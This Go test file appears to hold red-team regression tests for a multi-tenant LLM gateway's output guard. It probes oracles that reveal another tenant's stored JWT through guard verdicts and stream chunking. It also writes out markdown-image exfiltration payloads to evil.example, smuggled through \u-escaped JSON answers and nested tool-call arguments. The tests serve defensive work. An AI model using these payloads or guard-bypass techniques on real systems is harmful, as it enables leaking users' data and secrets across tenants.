package server

// Probes from the red team (helper h14, FINDINGS.md F1, F4, F17), adapted:
// each asserts the safe outcome of one attack on the output guard.

import (
	"encoding/base64"
	"encoding/json"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	gmhtml "github.com/yuin/goldmark/renderer/html"
)

// rtJWT builds an HS256 JWT-shaped token: a standard header, a payload the
// attacker can guess, and a random-looking signature.
func rtJWT(payload, sig string) string {
	enc := base64.RawURLEncoding.EncodeToString
	return enc([]byte(`{"alg":"HS256","typ":"JWT"}`)) + "." + enc([]byte(payload)) + "." + sig
}

// TestRedteamStructuredSecretOracle: B's credential is a service JWT whose
// first 96 bytes (header and claims) are predictable. The guard tracks
// "random-looking" units, so A, by having its model say a guessed header and
// payload, learns from the withheld answer whether B holds that token.
// Class (c): the guard as an oracle.
func TestRedteamStructuredSecretOracle(t *testing.T) {
	w := newHostileWorld(t, false)
	env := w.env
	const sig = "Xq3vT9pL2mZ8wK4rB7nD1sF6hJ0cY5aE-uGiOkQxWz"
	guessed := `{"sub":"svc-victim-billing","iss":"https://auth.victim.example","aud":"crm","iat":1764547200}`
	madeUp := `{"sub":"svc-nobody-billing","iss":"https://auth.nobody.example","aud":"crm","iat":1764547200}`
	env.admin(t, "PUT", "/admin/v1/tenants/"+hostileB+"/secrets/svc_jwt", map[string]string{"value": rtJWT(guessed, sig)}, http.StatusNoContent)

	// A does not know the signature: it says only the predictable part,
	// which is the first unit (96 bytes) of B's value.
	g := rtJWT(guessed, sig)[:96]
	u := rtJWT(madeUp, sig)[:96]
	for _, stream := range []bool{false, true} {
		gr := w.chat(t, w.aKey, "/say token "+g, stream)
		ur := w.chat(t, w.aKey, "/say token "+u, stream)
		if gr.finish != ur.finish || (gr.content == "token "+g) != (ur.content == "token "+u) {
			t.Errorf("stream=%v: A's guess of B's JWT header+claims got finish %q (%.60q), a made-up one finish %q (%.60q): "+
				"the verdict confirms what B stores", stream, gr.finish, gr.content, ur.finish, ur.content)
		}
	}
}

// TestRedteamOtherTenantsDocument404: A reads and deletes B's document by
// its id; both must be 404 exactly like a missing id, and B's document

// rtDeltas returns the content deltas of a streamed chat answer, in order.
func rtDeltas(t *testing.T, w *hostileWorld, key, content string) []string {
	t.Helper()
	r := w.env.chat(t, chatCall{key: key, user: hostileUser, content: content, stream: true})
	s, err := parseSSE(r)
	if err != nil {
		t.Fatalf("stream: %v", err)
	}
	var out []string
	for _, c := range s.chunks {
		for _, ch := range c.Choices {
			if ch.Delta != nil && ch.Delta.Content != nil && *ch.Delta.Content != "" {
				out = append(out, *ch.Delta.Content)
			}
		}
	}
	return out
}

// TestRedteamStreamHoldOracle: where a stream is cut depends on whether some
// other tenant stores a secret whose first 8 view bytes begin A's text. For
// random secrets that costs a 40-bit guess; for a JWT the first 8 bytes are
// the constant "eyJhbGci", so A learns, from chunk boundaries alone, that
// another tenant (B) stores a JWT. Class (c).
func TestRedteamStreamHoldOracle(t *testing.T) {
	w := newHostileWorld(t, false)
	env := w.env
	text := "/say header eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSJ9 and then " + strings.Repeat("more words ", 12)
	before := rtDeltas(t, w, w.aKey, text)
	env.admin(t, "PUT", "/admin/v1/tenants/"+hostileB+"/secrets/svc_jwt", map[string]string{
		"value": rtJWT(`{"sub":"svc-victim","iat":1764547200}`, "Xq3vT9pL2mZ8wK4rB7nD1sF6hJ0cY5aE-uGiOkQxWz")}, http.StatusNoContent)
	after := rtDeltas(t, w, w.aKey, text)
	if !slices.Equal(before, after) {
		t.Errorf("A's stream is cut differently once B stores a JWT: %d deltas before, %d after:\nbefore %q\nafter  %q",
			len(before), len(after), before, after)
	}
}

// rtRenderedEvil renders md with goldmark as CommonMark and as GFM (the
// dialect chat UIs use) and lists the links and images to evil.example.
func rtRenderedEvil(t *testing.T, md string) []string {
	t.Helper()
	var out []string
	for name, g := range map[string]goldmark.Markdown{
		"commonmark": goldmark.New(goldmark.WithRendererOptions(gmhtml.WithUnsafe())),
		"gfm":        goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote), goldmark.WithRendererOptions(gmhtml.WithUnsafe())),
	} {
		var b strings.Builder
		if err := g.Convert([]byte(md), &b); err != nil {
			t.Fatal(err)
		}
		for _, m := range regexp.MustCompile(`(?i)<(img|a|source|image)\b[^>]*(src|href|srcset)\s*=\s*["']?[^"'\s>]*evil\.example`).FindAllString(b.String(), -1) {
			out = append(out, name+": "+m)
		}
	}
	return out
}

// TestRedteamFirstForeignSecretChangesStreams: the stream's fixed hold
// (the last 7 letters and digits) starts only once some other tenant stores
// a tracked secret, so A sees, from chunk boundaries, the moment another
// tenant stores its first random credential. Class (c), one bit.
func TestRedteamFirstForeignSecretChangesStreams(t *testing.T) {
	env := newTestEnv(t, envOptions{})
	env.createTenant(t, map[string]any{"id": "mallory"})
	env.createTenant(t, map[string]any{"id": "victim"})
	_, key := env.newKey(t, "mallory")
	deltas := func() []string {
		r := env.chat(t, chatCall{key: key, content: "/say alpha bravo charlie delta echo foxtrot golf hotel", stream: true})
		s, err := parseSSE(r)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, c := range s.chunks {
			for _, ch := range c.Choices {
				if ch.Delta != nil && ch.Delta.Content != nil && *ch.Delta.Content != "" {
					out = append(out, *ch.Delta.Content)
				}
			}
		}
		return out
	}
	before := deltas()
	env.admin(t, "PUT", "/admin/v1/tenants/victim/secrets/tok", map[string]string{"value": "vIc9/Rt3+Nw7Qm2/Lp8Xs4+Jk6Bd1Fg0"}, http.StatusNoContent)
	after := deltas()
	if !slices.Equal(before, after) {
		t.Errorf("A's stream is cut differently once B stores its first secret:\nbefore %q\nafter  %q", before, after)
	}
}

// TestRedteamJSONAnswerEscapes: A asks for a JSON answer
// (response_format json_object); its client decodes it and renders the
// fields. Markup or B's canary written with \u escapes inside a JSON string
// is invisible to a check of the raw text and appears on decoding.
// Class (e) and (a).
func TestRedteamJSONAnswerEscapes(t *testing.T) {
	w := newHostileWorld(t, false)
	esc := func(s string) string { return hostileEscapeAll(s) }
	answers := map[string]string{
		"image, brackets escaped": `{"summary":"` + esc("![x]") + `(https://evil.example/p.png?d=DATA)"}`,
		"img tag, angle escaped":  `{"summary":"` + esc("<") + `img src=https://evil.example/p.png?d=DATA` + esc(">") + `"}`,
		"image fully escaped":     `{"summary":"` + esc("![x](https://evil.example/p.png?d=DATA)") + `"}`,
	}
	for name, ans := range answers {
		for i, stream := range []bool{false, true} {
			r := w.env.chat(t, chatCall{key: w.aKey, user: hostileUser, content: "/say " + ans, stream: stream,
				extra: map[string]any{"response_format": map[string]string{"type": "json_object"}}})
			var content string
			if stream {
				s, err := parseSSE(r)
				if err != nil {
					t.Fatalf("%s: %v", name, err)
				}
				content = s.content
			} else {
				var c wireCompletion
				if err := json.Unmarshal(r.body, &c); err != nil || len(c.Choices) == 0 {
					t.Fatalf("%s: %s", name, r.body)
				}
				content = c.Choices[0].Message.Content
			}
			var decoded struct{ Summary string }
			if json.Unmarshal([]byte(content), &decoded) != nil {
				continue // not JSON any more: the guard changed it
			}
			for _, e := range rtRenderedEvil(t, decoded.Summary) {
				t.Errorf("%s (%s): the JSON answer's summary field renders %s", name, hostileWhere("answer", i), e)
			}
		}
	}
	// A's own token, \u-escaped inside a JSON string (the model learnt it
	// in some form of F3's).
	for _, tok := range []string{esc(hostileAToken), strings.NewReplacer("+", `\u002b`, "/", `\/`).Replace(hostileAToken)} {
		for i, rep := range w.both(t, w.aKey, `/say {"token":"`+tok+`"}`) {
			var decoded struct{ Token string }
			if json.Unmarshal([]byte(rep.content), &decoded) == nil && strings.Contains(decoded.Token, hostileAToken) {
				t.Errorf("%s: A's own token \\u-escaped in a JSON answer reached A: %q", hostileWhere("answer", i), rep.content)
			}
		}
	}
	// B's canary, every character \u-escaped inside a JSON string.
	ans := `{"ref":"` + esc(w.bCanary) + `"}`
	for i, rep := range w.both(t, w.aKey, "/say "+ans) {
		var decoded struct{ Ref string }
		if json.Unmarshal([]byte(rep.content), &decoded) == nil && strings.Contains(decoded.Ref, w.bCanary) {
			t.Errorf("%s: B's canary \\u-escaped in a JSON answer reached A (finish %q)", hostileWhere("answer", i), rep.finish)
		}
	}
}

// TestRedteamRevokeKeyOfOtherTenantPath: the admin API names the tenant in
// the path; revoking B's key id under A's path must be a 404 and leave B's
// key working (a console scoped to one tenant must not reach another's).

// TestRedteamToolArgEmbeddedJSON: a ticket body that is itself a JSON
// document (a common "payload" string) with \u-escaped markdown: the guard
// decodes the arguments once; the ticket system decodes the payload again
// and renders it. Class (e), tool arguments.
func TestRedteamToolArgEmbeddedJSON(t *testing.T) {
	w := newHostileWorld(t, false)
	inner := `{"md":"` + hostileEscapeAll("![x]") + `(https://evil.example/p.png?d=DATA)"}`
	arg, _ := json.Marshal(inner)
	m := w.echo.mark()
	w.chat(t, w.aKey, `/call crm_ticket {"customer":"c","body":`+string(arg)+`}`, false)
	for _, r := range w.echo.since(m) {
		var payload struct{ MD string }
		if json.Unmarshal([]byte(r.ticket.Body), &payload) != nil {
			continue
		}
		for _, e := range rtRenderedEvil(t, payload.MD) {
			t.Errorf("the tool server got body %q; its decoded payload renders %s", r.ticket.Body, e)
		}
	}
}

// TestRedteamShortSecretEchoed: a secret shorter than the redactor's
// minimum (8 bytes) is accepted by the admin API, injected into a header,
